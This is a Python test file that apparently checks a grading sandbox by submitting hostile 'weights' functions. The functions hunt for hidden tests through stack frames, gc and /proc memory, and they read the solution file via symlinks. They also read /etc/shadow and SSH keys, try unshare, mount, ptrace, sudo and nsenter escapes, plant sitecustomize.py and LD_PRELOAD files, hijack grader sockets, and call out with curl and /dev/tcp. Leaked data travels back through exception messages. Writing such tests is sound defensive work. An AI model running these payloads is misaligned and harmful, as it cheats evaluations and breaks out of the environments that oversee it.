"""Code that looks for the hidden tests, reads what is not its own, or wants to get out."""

from submissions.case import hostile

SEARCH, READ, ESCAPE, NETWORK = "hidden tests searched", "secrets read", "escapes", "network"
# What is found is sent home in the message of an exception, which the feedback shows.
REPORT = """
import re
WANTED = re.compile(rb"SEC[R]ET[- ](CHECK|small|scale|share|-4)")
def report(where, data):
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    found = WANTED.search(data)
    if found:
        raise ValueError(f"{where}: {data[max(0, found.start() - 200):found.end() + 200]}")
"""


@hostile(SEARCH, loses="weights")
def frames(trap):
    return {
        "weights": REPORT
        + """
import inspect, sys
def weights(q, k):
    frame = sys._getframe()
    while frame:
        try:
            report("frame", "".join(inspect.getsourcelines(frame)[0]))
        except OSError:
            pass
        report("locals", repr({**frame.f_locals, **frame.f_globals})[:10**6])
        frame = frame.f_back
    return q
"""
    }


@hostile(SEARCH, loses="weights", may_lose="head batches number")
def garbage_collector(trap):
    return {
        "weights": REPORT
        + """
import gc, linecache
def weights(q, k):
    for found in gc.get_objects():
        for part in gc.get_referents(found):
            if type(part) in (str, bytes) and len(part) < 10**6:
                report("gc", part)
    report("linecache", linecache.cache)
    return q
"""
    }


@hostile(SEARCH, loses="weights", may_lose="head batches number")
def memory_of_all_processes(trap):
    return {
        "weights": REPORT
        + """
import os
def weights(q, k):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline", "mountinfo", "status"):
            try:
                report(name, open(f"/proc/{pid}/{name}", "rb").read())
            except OSError:
                pass
        with open(f"/proc/{pid}/mem", "rb") as memory:
            for line in open(f"/proc/{pid}/maps"):
                if " rw-p" in line and "heap" in line:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    report("memory", memory.read(end - start))
    return q
"""
    }


@hostile(SEARCH, loses="weights")
def everything_that_can_be_read(trap):
    """Notebooks, plans and notes in any folder."""
    return {
        "weights": REPORT
        + """
import os
def weights(q, k):
    seen = 0
    for top in ("/srv", "/root", "/home", "/tmp", "/var", "/etc", "/proc/1/root", "/dev/shm"):
        for folder, folders, files in os.walk(top):
            if "site-packages" in folder or "/lib/python" in folder:
                folders.clear()
            for name in files:
                if name.endswith((".ipynb", ".json", ".jsonl", ".txt", ".csv", ".py")):
                    try:
                        with open(os.path.join(folder, name), "rb") as file:
                            report(folder + name, file.read(10**6))
                    except OSError:
                        pass
                    seen += 1
                    if seen > 3000:
                        raise RuntimeError("all looked at")
    raise RuntimeError("all looked at")
"""
    }


@hostile(SEARCH, loses="weights")
def history_and_outputs(trap):
    return {
        "weights": REPORT
        + """
def weights(q, k):
    shell = get_ipython()
    report("history", [globals().get(name) for name in ("In", "Out", "_ih", "_oh", "_dh", "_i")])
    report("shell", vars(shell))
    report("raw", [*shell.history_manager.get_range(raw=True)])
    return q
"""
    }


@hostile(SEARCH, loses="weights", may_lose="head batches number")
def traces_the_one_who_calls(trap):
    return {
        "weights": REPORT
        + """
import sys, threading
def trace(frame, event, arg):
    report("trace", repr(frame.f_locals)[:10**5])
    return trace
sys.settrace(trace)
threading.settrace(trace)
sys.setprofile(trace)
def weights(q, k):
    sys._getframe(1).f_trace = trace
    return q
"""
    }


@hostile(READ, loses="weights")
def solution_by_its_path(trap):
    return {
        "weights": REPORT
        + f"""
def weights(q, k):
    report("solution", open("{trap.solution}", "rb").read())
"""
    }


@hostile(READ, loses="weights")
def solution_through_links(trap):
    return {
        "weights": REPORT
        + f"""
import os
def weights(q, k):
    for number, target in enumerate(("{trap.solution}", "/proc/1/root{trap.solution}",
                                     "/proc/self/cwd/../../..{trap.solution}", "/proc/1/cwd")):
        for link in (os.symlink, os.link):
            try:
                link(target, f"/tmp/link{{number}}")
                report("link", open(f"/tmp/link{{number}}", "rb").read())
            except OSError:
                pass
    raise OSError
"""
    }


@hostile(READ, loses="weights")
def files_of_the_machine(trap):
    return {
        "weights": """
import os
def weights(q, k):
    for path in ("/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa", "/root/.bash_history",
                 "/var/log/syslog", "/proc/kcore", "/proc/1/environ", "/dev/mem", "/dev/sda"):
        try:
            data = open(path, "rb").read(1000)
        except OSError:
            continue
        if b"root:" in data or b"PRIVATE" in data or path in ("/proc/kcore", "/dev/mem"):
            raise ValueError(f"SEC" + f"RET {path}")
    return q
"""
    }


@hostile(ESCAPE, loses="weights")
def writes_everywhere(trap):
    return {
        "weights": f"""
import os, pathlib
def weights(q, k):
    places = ["{trap.file}", "{trap.folder}/new", "/proc/1/root{trap.file}", "/etc/new", "/usr/new",
              math.__file__ if hasattr(math, "__file__") else "/new", torch.__file__,
              pathlib.Path(torch.__file__).parents[1] / "sitecustomize.py",
              pathlib.Path(torch.__file__).parents[4] / "pyvenv.cfg"]
    for place in places:
        try:
            open(place, "a").write("reached")
        except OSError:
            pass
        try:
            os.chmod(place, 0o777), os.unlink(place)
        except OSError:
            pass
    return q
"""
    }


@hostile(ESCAPE, loses="weights")
def mounts_and_namespaces(trap):
    return {
        "weights": """
import ctypes, os, subprocess
def weights(q, k):
    libc = ctypes.CDLL(None)
    for flags in (0x10000000, 0x20000, 0x10020000, 0x20000000, 0x40000000):
        if libc.unshare(flags) == 0:
            raise RuntimeError("SEC" + "RET unshare")
    if libc.mount(b"none", b"/scratch", b"tmpfs", 0, None) == 0 or libc.umount2(b"/proc", 2) == 0:
        raise RuntimeError("SEC" + "RET mount")
    if libc.ptrace(16, 1, 0, 0) == 0 or os.getuid() == 0 or libc.setuid(0) == 0:
        raise RuntimeError("SEC" + "RET rights")
    if libc.chroot(b"/scratch") == 0 or libc.sethostname(b"x", 1) == 0 or libc.reboot(0) == 0:
        raise RuntimeError("SEC" + "RET root")
    for command in ("sudo -n id", "su -c id", "mount -t tmpfs x /tmp", "nsenter -t 1 -a id"):
        if subprocess.run(command, shell=True).returncode == 0:
            raise RuntimeError("SEC" + "RET " + command)
    return q
"""
    }


@hostile(ESCAPE, loses="weights")
def preloaded_library_and_site(trap):
    """What is left in places where the next Python might look for it."""
    return {
        "weights": f"""
import os, pathlib
for folder in ("/scratch", "/tmp", "/scratch/.local/lib/python3.11/site-packages", "/dev/shm", "."):
    try:
        pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
        for name in ("sitecustomize.py", "usercustomize.py", "torch.py", "math.py", "evil.pth"):
            pathlib.Path(folder, name).write_text("open({str(trap.file)!r}, 'w').write('reached')")
        pathlib.Path(folder, ".bashrc").write_text("echo reached > {trap.file}")
    except OSError:
        pass
os.environ["LD_PRELOAD"] = "/tmp/evil.so"
os.environ["PYTHONPATH"] = "/tmp:/scratch"
def weights(q, k):
    return q
"""
    }


@hostile(ESCAPE, loses="weights")
def sockets_of_the_grader(trap):
    """Every open file is written to, and sent file descriptors are asked for."""
    return {
        "weights": """
import os, socket
def weights(q, k):
    for fd in range(3, 256):
        try:
            sock = socket.socket(fileno=os.dup(fd))
            sock.setblocking(False)
            socket.send_fds(sock, [b"next"], [0])
            socket.recv_fds(sock, 100, 5)
        except OSError:
            pass
    return q
"""
    }


@hostile(NETWORK, loses="weights")
def speaks_to_this_machine(trap):
    return {
        "weights": f"""
import socket
def weights(q, k):
    for kind, address in ((socket.AF_INET, ("127.0.0.1", {trap.port})),
                          (socket.AF_UNIX, "\\0{trap.abstract}"), (socket.AF_UNIX, "{trap.unix}")):
        try:
            sock = socket.socket(kind)
            sock.settimeout(0.2)
            sock.connect(address)
            sock.send(b"reached")
        except OSError:
            pass
    sock = socket.socket(type=socket.SOCK_DGRAM)
    sock.sendto(b"reached", ("127.0.0.1", {trap.udp}))
    return q
"""
    }


@hostile(NETWORK, loses="weights")
def speaks_to_the_world(trap):
    return {
        "weights": f"""
import socket, urllib.request
def weights(q, k):
    for address in ("http://127.0.0.1:{trap.port}/", "http://192.0.2.1/", "http://example.org/"):
        try:
            urllib.request.urlopen(address, timeout=0.3)
        except OSError:
            pass
    get_ipython().system("curl -m 1 http://127.0.0.1:{trap.port}; "
                         "echo x > /dev/tcp/127.0.0.1/{trap.port}")
    return q
"""
    }


@hostile(NETWORK, loses="weights")
def server_that_waits(trap):
    return {
        "weights": f"""
import http.server as http, threading
server = http.ThreadingHTTPServer(("0.0.0.0", {trap.port}), http.BaseHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
def weights(q, k):
    return q
"""
    }
